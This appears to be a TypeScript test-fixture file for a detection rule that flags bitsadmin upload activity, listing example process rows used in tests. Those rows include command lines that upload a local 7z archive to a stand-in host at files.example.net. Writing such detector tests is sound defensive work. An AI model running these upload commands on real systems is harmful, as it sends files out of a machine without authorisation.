import type { Example } from '../signal.js';

/** Rows that show each signal of the family; the tests run them. No bundle carries them. */
export const directionExamples: Readonly<Record<string, readonly Example[]>> = {
  'upload': [
      { process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job /upload https://files.example.net/in C:\\d\\a.7z' },
      { process_name: 'bitsadmin.exe', process: 'bitsadmin /create /upload job' },
    ],
  'upload-archive': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job /upload https://files.example.net/in/a.7z C:\\d\\a.7z' }],
};
